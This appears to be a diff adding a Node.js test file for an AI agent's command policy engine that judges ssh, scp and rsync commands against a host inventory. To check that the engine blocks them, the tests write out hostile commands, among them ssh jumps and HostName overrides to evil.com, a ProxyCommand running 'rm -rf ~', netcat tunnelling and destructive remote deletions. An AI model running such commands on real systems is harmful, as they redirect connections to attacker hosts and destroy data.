@@ -0,0 +1,196 @@
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'fs/promises';
+import { useTempStorage, removeTempStorage } from './helpers.js';
+import { loadHosts, findRemoteTargets, applyHostAliases, describeHosts } from '../lib/hostRegistry.js';
+import { evaluateCommand } from '../lib/policyEngine.js';
+import { parseShell, listCommands } from '../lib/shellParser.js';
+import { registerExecutorBackend, resetExecutorBackends } from '../lib/executorBackends.js';
+import { executeAgentCommand } from '../lib/terminalExecutor.js';
+
+let tempDir;
+
+const HOSTS = {
+  hosts: {
+    web1: { address: '10.0.1.5', user: 'deploy', port: 2222, key: '~/.ssh/deploy_ed25519', environment: 'production', allow: ['read-only', 'write', 'network'], description: 'Public web server' },
+    build: { address: 'build.internal' }
+  }
+};
+
+before(async () => {
+  tempDir = await useTempStorage();
+});
+
+after(async () => {
+  resetExecutorBackends();
+  await removeTempStorage(tempDir);
+});
+
+const useHosts = () => fs.writeFile(process.env.HOSTS_CONFIG_FILE, JSON.stringify(HOSTS));
+const removeHosts = () => fs.rm(process.env.HOSTS_CONFIG_FILE, { force: true });
+
+test('finds ssh, scp and rsync targets with their remote commands', async () => {
+  await useHosts();
+  try {
+    const inventory = await loadHosts();
+    const commands = listCommands(parseShell(
+      'ssh -p 22 -t root@web1 "df -h" && scp -i k app.tar 10.0.1.5:/tmp/ && rsync -az --delete dist/ build:/srv/app && sftp other'
+    ));
+    const targets = findRemoteTargets(commands, inventory);
+
+    assert.deepEqual(targets.map(t => [t.program, t.name, t.host?.name ?? null]), [
+      ['ssh', 'web1', 'web1'],
+      ['scp', '10.0.1.5', 'web1'],
+      ['rsync', 'build', 'build'],
+      ['sftp', 'other', null]
+    ]);
+    assert.equal(targets[0].user, 'root');
+    assert.equal(targets[0].remoteCommand, 'df -h');
+    assert.equal(targets[1].transfer, 'upload');
+    assert.equal(targets[2].deletes, true);
+  } finally {
+    await removeHosts();
+  }
+});
+
+test('without an inventory ssh is only classified as network', async () => {
+  const report = await evaluateCommand('ssh anywhere uptime', { environment: 'development' });
+  assert.equal(report.blocked, false);
+  assert.equal(report.remote[0].host, null);
+  assert.deepEqual(report.categories, ['read-only', 'network']);
+});
+
+test('unknown hosts and disallowed command classes are blocked', async () => {
+  await useHosts();
+  try {
+    const unknown = await evaluateCommand('ssh db9 uptime', { environment: 'development' });
+    assert.equal(unknown.blocked, true);
+    assert.match(unknown.reasoning.join('\n'), /Unknown host db9/);
+
+    const hidden = await evaluateCommand('echo $(ssh db9 cat /etc/hostname)', { environment: 'development' });
+    assert.equal(hidden.blocked, true);
+
+    const destructive = await evaluateCommand('ssh web1 "rm -rf /srv/app"', { environment: 'development' });
+    assert.equal(destructive.blocked, true);
+    assert.match(destructive.reasoning.join('\n'), /Host web1 does not allow destructive commands/);
+
+    const login = await evaluateCommand('ssh web1', { environment: 'development' });
+    assert.equal(login.blocked, true);
+    assert.match(login.warnings.join('\n'), /interactive shell/);
+  } finally {
+    await removeHosts();
+  }
+});
+
+test('ssh options cannot reach other hosts or run local commands', async () => {
+  await fs.writeFile(process.env.HOSTS_CONFIG_FILE, JSON.stringify({
+    hosts: { ...HOSTS.hosts, web1: { address: '10.0.1.5', allow: ['read-only'] } }
+  }));
+  try {
+    const check = (command) => evaluateCommand(command, { environment: 'development' });
+
+    for (const command of [
+      'ssh -J evil.com web1 ls',
+      'ssh -o ProxyJump=evil.com web1 ls',
+      'ssh -oHostName=evil.com web1 ls',
+      'ssh -o ProxyCommand="rm -rf ~" web1 ls',
+      'ssh -F ./my_config web1 ls',
+      'scp -S ./fake-ssh a.txt web1:/tmp/',
+      'rsync -e "ssh -o ProxyCommand=nc\\ evil.com\\ 22" -a dist/ build:/srv/',
+      'rsync -e "sh -c whoami" -a dist/ build:/srv/',
+      'ssh -R 8080:localhost:22 web1 ls',
+      'ssh -L 5432:db:5432 web1 ls',
+      'ssh -A web1 ls'
+    ]) {
+      assert.equal((await check(command)).blocked, true, command);
+    }
+
+    const jump = await check('ssh -J build web1 ls');
+    assert.equal(jump.blocked, false);
+    assert.deepEqual(jump.remote.map(t => [t.name, t.jump === true]), [['web1', false], ['build', true]]);
+
+    const override = await check('ssh -o StrictHostKeyChecking=no web1 ls');
+    assert.equal(override.requiresApproval, true);
+    assert.equal((await check('ssh -o BatchMode=yes -o ConnectTimeout=5 web1 ls')).action, 'allow');
+
+    const forward = await check('ssh -L 5432:db:5432 build sleep 60');
+    assert.ok(forward.categories.includes('network'));
+  } finally {
+    await removeHosts();
+  }
+
+  const noInventory = await evaluateCommand('ssh -o ProxyCommand="rm -rf ~" anywhere ls', { environment: 'development' });
+  assert.equal(noInventory.blocked, false);
+  assert.equal(noInventory.requiresApproval, true);
+});
+
+test('commands on a host are also judged by the host environment policy', async () => {
+  await useHosts();
+  try {
+    const read = await evaluateCommand('ssh web1 "tail -n 50 /var/log/app.log"', { environment: 'development' });
+    assert.equal(read.action, 'allow');
+
+    const write = await evaluateCommand('ssh web1 "touch /srv/app/maintenance"', { environment: 'development' });
+    assert.equal(write.requiresApproval, true);
+    assert.ok(write.reasoning.includes('web1 (production) write: approve'));
+
+    const anywhere = await evaluateCommand('ssh build "rm -rf /srv/app"', { environment: 'development' });
+    assert.equal(anywhere.blocked, false);
+  } finally {
+    await removeHosts();
+  }
+});
+
+test('aliases resolve through the generated ssh_config', async () => {
+  await useHosts();
+  try {
+    const command = 'ssh web1 uptime | grep load && sudo scp a.txt web1:/tmp/ && rsync -a dist/ build:/srv/ && sh -c "ssh build ls"';
+    const report = await evaluateCommand(command, { environment: 'development' });
+    const config = process.env.HOSTS_SSH_CONFIG_FILE;
+
+    assert.equal(await applyHostAliases(command, report),
+      `ssh -F ${config} web1 uptime | grep load && sudo scp -F ${config} a.txt web1:/tmp/ && rsync -e 'ssh -F ${config}' -a dist/ build:/srv/ && sh -c "ssh build ls"`);
+
+    const text = await fs.readFile(config, 'utf-8');
+    assert.match(text, /Host web1 10\.0\.1\.5\n {2}HostName 10\.0\.1\.5\n {2}User deploy\n {2}Port 2222\n {2}IdentityFile ~\/\.ssh\/deploy_ed25519\n {2}IdentitiesOnly yes\n {2}BatchMode yes/);
+    assert.match(text, /Host build build\.internal\n {2}HostName build\.internal\n {2}BatchMode yes/);
+
+    assert.equal(await describeHosts(), '- web1 (production; allows read-only, write, network): Public web server\n- build');
+  } finally {
+    await removeHosts();
+  }
+});
+
+test('executed commands record the target host apart from the command', async () => {
+  await useHosts();
+  const calls = [];
+  registerExecutorBackend('recording', {
+    async run(command) {
+      calls.push(command);
+      return { stdout: 'up 3 days', stderr: '', exitCode: 0, error: null, cwd: '/', isolation: null };
+    }
+  });
+
+  try {
+    const result = await executeAgentCommand(
+      { command: 'ssh web1 uptime', commandReasoning: 'check load' },
+      { autoApprove: true, backend: 'recording', environment: 'development' }
+    );
+
+    assert.equal(result.status, 'success');
+    assert.equal(result.command, 'ssh web1 uptime');
+    assert.deepEqual(calls, [`ssh -F ${process.env.HOSTS_SSH_CONFIG_FILE} web1 uptime`]);
+    assert.deepEqual(result.remote, [{
+      host: 'web1',
+      target: 'web1',
+      address: '10.0.1.5',
+      user: 'deploy',
+      environment: 'production',
+      program: 'ssh',
+      remoteCommand: 'uptime',
+      categories: ['read-only']
+    }]);
+  } finally {
+    await removeHosts();
+  }
+});